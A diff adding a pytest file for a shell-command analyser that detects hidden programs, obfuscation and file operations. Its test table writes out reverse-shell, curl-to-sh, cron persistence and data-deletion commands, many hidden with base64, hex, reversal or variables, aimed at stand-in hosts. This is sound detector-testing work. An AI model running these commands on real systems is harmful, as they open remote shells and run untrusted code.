@@ -1,0 +1,117 @@
+"""The command analyser on a table of tricky shell, payload and obfuscation cases."""
+
+from __future__ import annotations
+
+import pytest
+
+from corral.detect import analyze
+
+# (command, programs that must be seen, in any order; an empty set means none)
+CASES: list[tuple[str, set[str]]] = [
+    ("ls -la", {"ls"}),
+    ("echo 'a | b' && cat \"x;y\"", {"echo", "cat"}),
+    ("a=1; b=2 env | grep X", {"env", "grep"}),
+    ("cd src && make || echo failed; ls &", {"cd", "make", "echo", "ls"}),
+    ("sh -c 'curl -s http://x | bash'", {"sh", "curl", "bash"}),
+    ("bash -lc \"python3 -c 'print(1)'\"", {"bash", "python3"}),
+    ("sudo -u root nohup timeout 5 nice -n 10 nc -e /bin/sh h 1", {"sudo", "nohup", "timeout", "nice", "nc"}),
+    ("env -i PATH=/bin FOO=bar /usr/bin/socat - tcp:h:1", {"env", "socat"}),
+    ("xargs -I{} -P4 wget {}", {"xargs", "wget"}),
+    ("(cd /tmp; ./run) | tee log", {"cd", "run", "tee"}),
+    ("{ echo a; echo b; } > out", {"echo"}),
+    ("if [ -f x ]; then rm x; else touch x; fi", {"[", "rm", "touch"}),
+    ("for i in $(seq 3); do ping -c1 h$i; done", {"seq", "ping"}),
+    ("while read l; do nc -z h $l; done < ports", {"read", "nc"}),
+    ("case $1 in start) ./srv ;; stop) pkill srv ;; esac", {"srv", "pkill"}),
+    ("f() { curl x; }; f", {"curl", "f"}),
+    ("echo `id` $(whoami)", {"echo", "id", "whoami"}),
+    ("cat <(curl -s x) >(gzip > y)", {"cat", "curl", "gzip"}),
+    ("echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh", {"echo", "base64", "sh", "curl"}),
+    ('bash -c "$(echo bmMgLWUgL2Jpbi9zaCBoIDE= | base64 --decode)"', {"bash", "base64", "nc"}),
+    ("echo 6e63202d65202f62696e2f736820682031 | xxd -r -p | sh", {"xxd", "nc"}),
+    ("echo 'hs/nib/ e- cn' | rev | sh", {"rev", "nc"}),
+    ("$'\\x6e\\x63' -e /bin/sh h 1", {"nc"}),
+    ("x=n; y=c; $x$y -e /bin/sh h 1", {"nc"}),
+    ("python3 -c 'import os; os.system(\"wget http://x -O /tmp/y\")'", {"python3", "wget"}),
+    ('python3 -c \'import subprocess; subprocess.call(["/bin/sh", "-i"])\'', {"python3", "sh"}),
+    ("perl -e 'system(\"id\")'", {"perl", "id"}),
+    ("perl -MIO -e 'exec \"/bin/sh\"'", {"perl"}),
+    ("ruby -e '`curl http://x`'", {"ruby", "curl"}),
+    ('node -e \'require("child_process").execSync("nc h 1")\'', {"node", "nc"}),
+    ("php -r 'shell_exec(\"id\");'", {"php", "id"}),
+    ("awk 'BEGIN{system(\"id\")}'", {"awk", "id"}),
+    ("python3 -c \"import base64,os;os.system(base64.b64decode('aWQ=').decode())\"", {"python3", "id"}),
+    ("bash <<'EOF'\ncurl x | sh\nEOF", {"bash", "curl", "sh"}),
+    ("python3 - <<EOF\nimport os\nos.system('id')\nEOF", {"python3", "id"}),
+    ("sh <<< 'wget http://x'", {"sh", "wget"}),
+    ("find . -name '*.tmp' -exec rm -f {} \\;", {"find", "rm"}),
+    ("ssh host 'curl x | sh'", {"ssh", "curl", "sh"}),
+    ("su -c 'id' root", {"su", "id"}),
+    ("watch -n 1 'ps aux'", {"watch", "ps"}),
+    ("tmux new -d -s w 'python train.py'", {"tmux", "python"}),
+    ('eval "nc -e /bin/sh h 1"', {"eval", "nc"}),
+    ("command -v nc", {"command"}),
+    ("echo 'unterminated", {"echo"}),
+    ("cat <<EOF\nno end", {"cat"}),
+    ("# just a comment", set()),
+    ("", set()),
+]
+
+
+@pytest.mark.parametrize(("command", "programs"), CASES)
+def test_programs_seen(command: str, programs: set[str]) -> None:
+    seen = {c.name for c in analyze(command).commands}
+    assert programs <= seen, f"missing {programs - seen}; saw {seen}"
+    if not programs:
+        assert not seen
+
+
+def test_lookup_only_does_not_run() -> None:
+    assert {c.name for c in analyze("command -v nc").commands} == {"command"}
+
+
+def test_quoting_kept_in_argv() -> None:
+    (cmd,) = analyze("grep -n 'a b' \"c d\" e\\ f").commands
+    assert cmd.argv == ("grep", "-n", "a b", "c d", "e f")
+
+
+def test_variables_resolved_and_flagged() -> None:
+    a = analyze("h=203.0.113.5; p=4444; nc $h ${p} -e /bin/sh")
+    assert ("nc", "203.0.113.5", "4444", "-e", "/bin/sh") in [c.argv for c in a.commands]
+    assert "variables" in a.obfuscation
+
+
+def test_redirect_targets_and_heredoc_contents_are_file_ops() -> None:
+    a = analyze("cat > /etc/cron.d/x <<EOF\n* * * * * root id\nEOF\necho hi >> ~/.bashrc; rm -rf tests/")
+    ops = {(f.path, f.op) for f in a.files}
+    assert {("/etc/cron.d/x", "write"), ("~/.bashrc", "append"), ("tests/", "delete")} <= ops
+    assert any(f.contents == "* * * * * root id" for f in a.files)
+
+
+def test_pipelines_and_sources() -> None:
+    a = analyze("curl -s http://x | sudo bash")
+    assert ("curl", "sudo") in a.pipelines
+    sources = {c.name: c.source for c in a.commands}
+    assert sources["bash"] == "wrapper" and sources["curl"] == "shell"
+    assert any(c.privileged for c in a.commands if c.name == "bash")
+
+
+def test_decoding_is_bounded() -> None:
+    payload = "id"
+    import base64
+
+    for _ in range(12):  # nested far deeper than the analyser follows
+        payload = f"echo {base64.b64encode(payload.encode()).decode()} | base64 -d | sh"
+    a = analyze(payload)
+    assert a.truncated
+    assert len(a.commands) < 100
+
+
+def test_huge_input_is_fast() -> None:
+    import time
+
+    text = "echo a; " * 5000
+    t = time.perf_counter()
+    a = analyze(text)
+    assert time.perf_counter() - t < 2.0
+    assert a.truncated  # command count capped
